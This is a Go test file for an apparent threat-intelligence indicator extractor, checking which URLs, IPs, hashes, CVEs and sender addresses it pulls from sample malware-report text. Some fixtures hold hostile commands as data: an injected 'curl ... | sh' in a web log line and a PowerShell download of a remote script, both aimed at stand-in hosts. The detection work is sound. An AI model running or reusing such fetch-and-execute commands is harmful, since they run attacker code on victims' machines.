package extract

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestMeant has a case for every rule by which a value is meant or not.
func TestMeant(t *testing.T) {
	t.Parallel()
	const (
		md5    = "0cc175b9c0f1b6a831c399e269772661"
		sha1   = "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8"
		sha256 = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4f72b9807785afee48bb"
	)
	tests := []struct {
		name, text string
		want       []string
	}{
		{"placeholder, angle", "It asks hxxp://a[.]example/g.php?id=<bot>&x=1 twice.", []string{"http://a.example/g.php?id="}},
		{"placeholder, braces", "It asks hxxp://a[.]example/v1/{id}/task twice.", []string{"http://a.example/v1/"}},
		{"placeholder, printf", "It asks hxxp://a[.]example/v1/%s/task twice.", []string{"http://a.example/v1/"}},
		{"placeholder, variable", "It asks hxxp://a[.]example/v1/?u=%USERNAME% twice.", []string{"http://a.example/v1/?u="}},
		{"escape is none", "It asks hxxp://a[.]example/%41bc?u=%20x twice.", []string{"http://a.example/Abc?u=%20x"}},
		{"shortened in a word", "It asks hxxp://a[.]example/long/wo... twice.", []string{"a.example"}},
		{"shortened on a platform", "It asks hxxps://www[.]google[.]com/url?q=... twice.", []string{}},

		{"listed further down", "The malware runs\n\n```\nget(u) // https://a.example/x\n```\n\n## IOCs\n\n- a[.]example\n", []string{"https://a.example/x", "a.example"}},
		{"listed above it", "Our malware post has b[.]example. See https://c.b.example/x.", []string{"b.example", "https://c.b.example/x"}},
		{"our resolver", "The beacon goes to 198.51.100.7. It asks 203.0.113.1 first.\n\n203.0.113.1 is our resolver.\n", []string{"198.51.100.7"}},
		{"a machine of ours", "We sent malware to a machine of ours (203.0.113.1), which asked 198.51.100.7.", []string{"198.51.100.7"}},
		{"name servers", "- bad.example (nameservers ns1.park.example, ns2.park.example), malware\n", []string{"bad.example"}},

		{"sender's field", "A phish of today.\n\nFrom: \"Bank\" <pay@bank-id.example>\nTo: you\n\nand hxxp://a[.]example/x.\n", []string{"pay@bank-id.example", "http://a.example/x"}},
		{"the text's own header", "From: Ann <ann@lab.example>\nSubject: phishing\n\nhxxp://a[.]example/x\n", []string{"http://a.example/x"}},
		{"registrant", "The phishing domain a[.]example was registered by bo.b@mail.example in May.", []string{"a.example", "bo.b@mail.example"}},
		{"sender in Korean", "악성 메일의 발신자는 pay@bank-id.example 이다.", []string{"pay@bank-id.example"}},
		{"telephone", "## Malware IOCs\n\na[.]example\n\nWe are at www.lab.example, ann@lab.example, +44 20 5550 018\n", []string{"a.example"}},
		{"signature", "The malware asks a[.]example.\n\n-- \nAnn, ann@lab.example\n", []string{"a.example"}},
		{"author's line", "= Notes on malware\nAnn <ann@lab.example>\n\nIt asks a[.]example.\n", []string{"a.example"}},
		{"ransom note", "Ransomware asks a[.]example.\n\nRansom note:\n\n    Write to help@mail.example now\n", []string{"a.example", "help@mail.example"}},

		{"settings", "The malware a[.]example has\n\n```\nhost = b.example\nntp = c.example\n```\n", []string{"a.example", "b.example"}},
		{"settings of something else", "Our web site has\n\n```\nhost = b.example\n```\n", []string{}},
		{"installation", "The malware is gone.\n\n```\napt-get install tool\ncurl https://get.tool.example/key | gpg --dearmor\n```\n", []string{}},
		{"fetched by a command", "The malware of a[.]example ran powershell iwr https://b.example/s.ps1 -o s.ps1", []string{"a.example", "https://b.example/s.ps1"}},
		{"escaped in a query", "malware\n\n```\n198.51.100.7 \"GET /x;curl%20http://203.0.113.9/k.sh%7Csh HTTP/1.1\"\n```\n", []string{"198.51.100.7", "http://203.0.113.9/k.sh"}},

		{"URL over two lines", "It went to hxxps://a[.]example/\nup/v2/put?id=7 every day.", []string{"https://a.example/up/v2/put?id=7"}},
		{"host over two lines", "It went to hxxps://bad-\nname[.]example/x every day.", []string{"https://bad-name.example/x"}},
		{"list is not one URL", "1. hxxp://a[.]example/x/\n2. hxxp://b[.]example/\n", []string{"http://a.example/x/", "http://b.example/"}},
		{"CVE over two lines", "It exploits CVE-2023-\n38831 in an archiver.", []string{"CVE-2023-38831"}},
		{"digest over two lines in a sentence", "The lure has the SHA-1\n" + sha1[:25] + "\n" + sha1[25:] + ".", []string{sha1}},

		{"digest in a query", "malware\n\n    https://cdn.example/a.xpi?filehash=sha256%3A" + sha256 + "\n", []string{"https://cdn.example/a.xpi?filehash=sha256%3A" + sha256, sha256}},
		{"number in a link", "Unsubscribe: https://news.example/u/" + md5 + " or see https://lab.example/sample/" + sha256, []string{sha256}},
		{"column of passwords", "| SHA-1 | Password |\n|---|---|\n| " + sha1 + " | " + md5 + " (MD5) |\n", []string{sha1}},
		{"section on keys", "## RC4 key for strings\n\n```\n" + md5 + "\n```\n", []string{}},
		{"section on stealers of keys", "## Key stealer samples\n\n```\n" + md5 + "\n```\n", []string{md5}},
		{"hash of a password", "The header is " + md5 + ", the password's MD5.", []string{}},
		{"commit far behind the word", "The commit that removed it from the project is `" + sha1 + "`.", []string{}},
		{"checksum of an installer", "The installer's SHA-256 has to be `" + sha256 + "`.", []string{}},
		{"checksum of malware", "The malicious installer must have the SHA-256 `" + sha256 + "`.", []string{sha256}},
		{"setting that is a key", "malware\n\n```\nEncryptionKey : " + md5 + "\nC2 : b.example:1;c.example:2\n```\n", []string{"b.example", "c.example"}},

		{"quoted in a text about nothing bad", "Host names were `mx1.team.example` to `mx9.team.example`.", []string{}},
		{"cell in a text about nothing bad", "| Record | Value |\n|---|---|\n| MX | 10 mx1.team.example |\n", []string{}},
		{"download and its digest", "It exploits CVE-2023-1111 in malware\n\nDownload: https://dl.lab.example/x.tgz\nSHA-1: " + sha1 + "\n\n" + md5 + "\n", []string{"CVE-2023-1111", md5}},
		{"product with the name of a machine", "The exploited Lamp Server 7.4.2.1 is old. The attacker's server 7.4.2.1 is not.", []string{"7.4.2.1"}},
		{"brand", "The phishing page looks like Lamp (lamp.example) and posts to dark.example.", []string{"dark.example"}},
		{"whom to ask, and its site", "The malware asks 198.51.100.7, server data is at https://track.example/x\n\nCorrections to me@track.example\n", []string{"198.51.100.7"}},
		{"prose behind a list", "The malware asks a[.]example and these servers:\n\nb.example\n\nSomebody else wrote about it in the forum at forum.example some weeks ago.\n", []string{"a.example", "b.example"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			found, err := Text(t.Context(), tt.text, Options{})
			if err != nil {
				t.Fatalf("Text: %v", err)
			}
			for _, c := range found {
				checkCandidate(t, tt.text, c)
			}
			if diff := cmp.Diff(tt.want, values(found)); diff != "" {
				t.Errorf("Text (-want +got):\n%s", diff)
			}
		})
	}
}

// TestSampleBehindLink writes out the address of a page about a sample whose
// link does not say which.
func TestSampleBehindLink(t *testing.T) {
	t.Parallel()
	const digest = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4f72b9807785afee48bb"
	for text, want := range map[string]int{
		"this sample": 1,
		digest:        1,
	} {
		doc, err := Render(strings.NewReader(`<p>See <a href="https://www.virustotal.com/gui/file/`+digest+`">`+text+`</a>.</p>`), HTML)
		if err != nil {
			t.Fatal(err)
		}
		found, err := Text(t.Context(), doc.Text, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if len(found) != want || found[0].Indicator.Value != digest {
			t.Errorf("%q: Text(%q) = %v; want %s", text, doc.Text, values(found), digest)
		}
	}
}
